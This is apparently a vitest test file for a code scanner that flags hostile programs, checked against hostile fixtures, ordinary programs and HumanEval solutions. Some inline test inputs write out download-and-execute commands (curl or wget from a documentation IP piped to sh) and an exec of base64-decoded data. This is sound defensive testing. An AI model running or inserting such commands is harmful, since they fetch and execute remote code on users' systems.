import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { scanCodebase } from './scan.js';
import type { GuardRule } from './types.js';

const repoRoot = join(import.meta.dirname, '../..');
const hostileRoot = join(repoRoot, 'test/fixtures/hostile');
// shared/ sits beside the repository (a worktree, or CI's clone)
const humanEval = join(
  process.env.CROSSTALK_SHARED ?? join(repoRoot, '..', 'shared'),
  'data/humaneval/HumanEval.jsonl.gz',
);
const manifest = JSON.parse(readFileSync(join(hostileRoot, 'cases.json'), 'utf8')) as {
  cases: Array<{ file: string; rule: GuardRule }>;
};
const hostileFiles = Object.fromEntries(
  manifest.cases.map((c) => [c.file, readFileSync(join(hostileRoot, c.file), 'utf8')]),
);

describe('scanner on hostile programs and files', async () => {
  // one scan of every fixture (one python3 start); each case then checks its own file's findings
  const report = await scanCodebase(hostileFiles);

  it('has more than 40 real fixture files and parsed the Python ones with ast', () => {
    expect(manifest.cases.length).toBeGreaterThanOrEqual(40);
    expect(report.python).toBe('ast');
    expect(report.scanned).toBe(manifest.cases.length);
  });

  it.each(manifest.cases)('$file is flagged as $rule', ({ file, rule }) => {
    const own = report.findings.filter((f) => f.file === file);
    const hit = own.find((f) => f.rule === rule);
    expect(hit, `findings: ${own.map((f) => `${f.rule}/${f.severity}`).join(', ') || 'none'}`).toBeDefined();
    expect(hit!.severity).not.toBe('low');
    expect(hit!.snippet.length).toBeGreaterThan(0);
  });
});

describe('scanner findings', () => {
  it('gives file, line, rule, severity and the snippet', async () => {
    const { findings } = await scanCodebase({
      'main.py': 'import os\n\nprint("hello")\nos.system("curl -s http://198.51.100.7/x | sh")\n',
    });
    expect(findings).toContainEqual(
      expect.objectContaining({
        file: 'main.py',
        line: 4,
        rule: 'download-execute',
        severity: 'high',
        snippet: 'os.system("curl -s http://198.51.100.7/x | sh")',
      }),
    );
  });

  it('resolves import aliases, so renaming a module does not hide a call', async () => {
    const { findings } = await scanCodebase({
      'main.py': 'from subprocess import Popen as P\nimport sys\nP(sys.argv[1], shell=True)\n',
      'main.js': "import * as c from 'node:child_process';\nconst run = c.execSync;\nrun(process.argv[2]);\n",
    });
    expect(findings.filter((f) => f.rule === 'process-spawn' && f.severity === 'high').map((f) => f.file)).toEqual([
      'main.js',
      'main.py',
    ]);
  });

  it('reports nothing for an ordinary program, its README and dependency files', async () => {
    const { findings } = await scanCodebase({
      'main.py':
        'import json\nimport os\n\nPATH = os.path.join(os.path.dirname(__file__), "todo.json")\n\n' +
        'def load():\n    if os.path.exists(PATH):\n        with open(PATH) as f:\n            return json.load(f)\n    return []\n',
      'main.js':
        "const fs = require('fs');\nconst items = JSON.parse(fs.readFileSync('todo.json', 'utf8'));\nconsole.log(items);\n",
      'requirements.txt': 'requests==2.32.3\nflask>=3\n',
      'package.json': '{"name":"todo","scripts":{"start":"node main.js","test":"node --test"}}',
      'README.md': '# Todo\n\n```bash\npip install -r requirements.txt\npython3 main.py\n```\n',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });

  it('falls back to a text scan, and says so, when python3 cannot be started', async () => {
    const report = await scanCodebase(
      { 'main.py': 'import os\nos.system("wget -q http://198.51.100.7/x -O- | sh")\n' },
      { python: 'crosstalk-no-such-python' },
    );
    expect(report.python).toMatch(/^text: /);
    expect(report.findings.map((f) => f.rule)).toEqual(expect.arrayContaining(['parse-error', 'download-execute']));
  });

  it('reports a Python file that does not parse at its line, and still scans its text', async () => {
    const { findings } = await scanCodebase({
      'main.py': 'def broken(:\n    exec(__import__("base64").b64decode(x))\n',
    });
    expect(findings).toContainEqual(expect.objectContaining({ rule: 'parse-error', severity: 'low', line: 1 }));
  });
});

describe('false positives', () => {
  it('finds nothing of high severity in the 164 HumanEval canonical solutions', async () => {
    const rows = gunzipSync(readFileSync(humanEval))
      .toString()
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { task_id: string; prompt: string; canonical_solution: string });
    expect(rows).toHaveLength(164);
    const files = Object.fromEntries(
      rows.map((r) => [`${r.task_id.replace('/', '-')}.py`, `${r.prompt}${r.canonical_solution}`]),
    );
    const report = await scanCodebase(files);
    expect(report.python).toBe('ast');
    expect(report.findings.filter((f) => f.rule === 'parse-error')).toEqual([]);
    expect(report.findings.filter((f) => f.severity === 'high')).toEqual([]);
  });
});
